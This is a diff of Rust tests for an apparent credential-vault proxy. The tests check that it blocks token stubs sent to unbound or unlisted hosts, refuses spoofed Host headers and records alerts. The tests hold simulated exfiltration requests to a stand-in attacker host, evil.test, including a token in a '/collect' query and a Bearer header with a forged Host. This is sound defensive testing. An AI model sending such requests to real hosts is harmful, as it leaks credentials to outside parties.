@@ -262,6 +262,7 @@ async fn a_stub_sent_to_a_host_it_is_not_bound_to_is_blocked_and_recorded() {
             output.contains("GITHUB_TOKEN") && output.contains("not bound"),
             "{output}"
         );
+        assert!(output.contains("x-lap-vault-blocked: credential-not-bound"), "{output}");
     }
     let url = w.url("evil.test", &format!("/collect?t={GH_STUB}"));
     assert_eq!(w.curl(&[&url]).await.0, 403);
@@ -274,7 +275,7 @@ async fn a_stub_sent_to_a_host_it_is_not_bound_to_is_blocked_and_recorded() {
         .filter(|r| r.blocked.is_some())
         .collect();
     assert_eq!(blocked.len(), 4);
-    assert!(blocked.iter().all(|r| r.host == "evil.test"));
+    assert!(blocked.iter().all(|r| r.host == "evil.test" && r.alert), "{blocked:?}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -313,21 +314,19 @@ async fn a_streamed_body_is_rewritten_even_when_a_stub_straddles_chunks() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_host_header_other_than_the_connect_target_is_refused() {
+async fn a_host_header_other_than_the_connect_target_is_refused_and_an_alert_when_it_carries_a_stub() {
     let w = world(&[]).await;
-    let auth = format!("Authorization: Bearer {GH_STUB}");
-    let (status, output) = w
-        .curl(&[
-            "--http1.1",
-            "-H",
-            &auth,
-            "-H",
-            "Host: evil.test",
-            &w.url("api.github.test", "/"),
-        ])
-        .await;
+    let url = w.url("api.github.test", "/");
+    let (status, output) = w.curl(&["--http1.1", "-H", "Host: evil.test", &url]).await;
     assert_eq!(status, 421, "{output}");
+    assert!(output.contains("x-lap-vault-blocked: host-mismatch"), "{output}");
+    let auth = format!("Authorization: Bearer {GH_STUB}");
+    let (status, output) = w.curl(&["--http1.1", "-H", &auth, "-H", "Host: evil.test", &url]).await;
+    assert_eq!(status, 403, "{output}");
+    assert!(output.contains("x-lap-vault-blocked: credential-not-bound"), "{output}");
     assert!(w.seen().is_empty());
+    let alerts: Vec<bool> = w.binding.audit.recent().iter().map(|r| r.alert).collect();
+    assert_eq!(alerts, [false, true]);
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -366,6 +365,7 @@ async fn egress_policy_blocks_unlisted_hosts_and_internal_addresses() {
     let w = world(&["api.github.test"]).await;
     let (status, output) = w.curl(&[&w.url("evil.test", "/")]).await;
     assert!(status == 403 || output.contains("403"), "{output}");
+    assert!(output.contains("x-lap-vault-blocked: egress-policy"), "{output}");
     // An IP literal with no override: refused as internal before any connection is made.
     let url = format!("https://127.0.0.1:{}/", w.upstream_port);
     let (status, output) = w.curl(&[&url]).await;
